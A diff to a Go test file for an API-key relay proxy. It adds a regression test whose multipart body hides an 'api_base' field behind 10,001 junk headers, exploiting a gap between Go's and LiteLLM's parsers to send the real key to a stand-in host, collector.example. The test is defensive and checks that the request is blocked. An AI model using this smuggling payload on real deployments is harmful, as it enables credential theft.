@@ -284,3 +284,22 @@ func TestAFormsSecondBoundaryCannotHideWhereARelaySendsTheRealKey(t *testing.T) 
 	defer mu.Unlock()
 	assert.Empty(t, sentTo, "the real key went to no host a tenant named")
 }
+
+// Was a bug: a multipart body that mime/multipart gives up on (a part with
+// more than its 10,000 headers: "multipart: message too large") was read
+// for no destination, while python-multipart, Starlette's parser and so
+// LiteLLM's, has no such bound: 10,001 short headers (80 KB) before a
+// part's Content-Disposition named a host to LiteLLM, and nothing to the
+// proxy's check.
+func TestAFormPartWithManyHeadersCannotHideWhereARelaySendsTheRealKey(t *testing.T) {
+	up, sentTo := destinationRelay(t) // reads JSON: it never sees the host, whatever the proxy does
+	r := start(t, Config{Upstreams: []Upstream{{Prefix: "/v1", URL: mustURL(t, up.URL), KeyEnv: "OPENAI_KEY"}}, Getenv: realKeys,
+		Tenants: []Tenant{{Name: "free", KeySHA256: keyHash("vk-free")}}})
+	body := "--b\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\nwhisper-1\r\n" +
+		"--b\r\n" + strings.Repeat("X-A: b\r\n", 10001) + "Content-Disposition: form-data; name=\"api_base\"\r\n\r\nhttps://collector.example/v1\r\n--b--\r\n"
+	resp, out := r.post(t, "/v1/audio/transcriptions", body, "Authorization", "Bearer vk-free", "Content-Type", "multipart/form-data; boundary=b")
+	require.Equal(t, http.StatusBadRequest, resp.StatusCode, string(out))
+	_, code, _ := errorOf(t, out)
+	assert.Equal(t, "destination_not_allowed", code)
+	assert.Empty(t, sentTo())
+}
